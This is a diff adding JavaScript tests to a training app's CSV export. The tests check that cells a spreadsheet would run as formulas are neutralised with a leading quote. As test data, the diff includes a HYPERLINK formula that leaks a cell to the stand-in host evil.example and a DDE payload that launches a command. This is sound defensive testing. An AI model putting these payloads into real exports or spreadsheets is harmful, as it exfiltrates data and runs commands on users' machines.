@@ -270,3 +270,66 @@ test('a stored module of 257 tasks is refused when a room opens, never truncated
     rita.close();
   });
 });
+
+// --- CSV export -------------------------------------------------------------------
+
+// RFC 4180 reader: rows of fields; checks CRLF line ends.
+function parseCsv(text) {
+  const rows = [];
+  let row = [], field = '', i = 0, quoted = false;
+  while (i < text.length) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
+      if (c === '"') { quoted = false; i++; continue; }
+      field += c; i++; continue;
+    }
+    if (c === '"') { quoted = true; i++; continue; }
+    if (c === ',') { row.push(field); field = ''; i++; continue; }
+    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
+    assert.notEqual(c, '\n', 'a bare LF ends a line: CSV lines must end with CRLF');
+    field += c; i++;
+  }
+  assert.equal(field, '', 'the last line ends with CRLF');
+  return rows;
+}
+
+test('CSV cells that a spreadsheet would run as a formula are neutralised', async () => {
+  await withServer(async (srv) => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
+    const food = await moduleByTitle(srv, 'Food safety basics'); // lea, leo, lars completed it
+    assert.equal((await call(srv, 'admin', 'PATCH', `/api/admin/modules/${food.id}`, { title: evil })).status, 200);
+    const users = (await call(srv, 'admin', 'GET', '/api/admin/users')).body.items;
+    const byLogin = Object.fromEntries(users.map((u) => [u.login, u]));
+    const names = { lea: '@SUM(1+1)*cmd|" /C calc"!A0', leo: '+41 22 555 0100', lars: '-2+3' };
+    for (const [who, name] of Object.entries(names)) {
+      const r = await call(srv, 'admin', 'PATCH', `/api/admin/users/${byLogin[who].id}`, { name });
+      assert.equal(r.status, 200, r.text);
+    }
+
+    const res = await call(srv, 'admin', 'GET', '/api/completions?format=csv');
+    assert.equal(res.status, 200);
+    const rows = parseCsv(res.text);
+    const head = rows[0];
+    const col = (name) => head.indexOf(name);
+    const body = rows.slice(1);
+    assert.equal(body.length, 3, res.text);
+    for (const row of body) {
+      for (const cell of row)
+        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
+      // the text is kept, behind one quote
+      assert.equal(row[col('module')], `'${evil}`);
+      assert.ok(['Kitchen', 'Cold kitchen'].includes(row[col('department')]), 'an ordinary cell is unchanged');
+      assert.equal(row[col('path')], 'Kitchen starter', 'an ordinary cell is unchanged');
+    }
+    const nameOf = Object.fromEntries(body.map((r) => [r[col('login')], r[col('name')]]));
+    for (const [who, name] of Object.entries(names)) assert.equal(nameOf[who], `'${name}`);
+    // the raw bytes: the neutralised cell is quoted (RFC 4180 with the quote inside)
+    assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`), res.text);
+    // ids and times stay as they are
+    for (const row of body) {
+      assert.match(row[col('id')], /^\d+$/);
+      assert.match(row[col('completed_at')], /^\d{4}-\d\d-\d\dT/);
+    }
+  });
+});
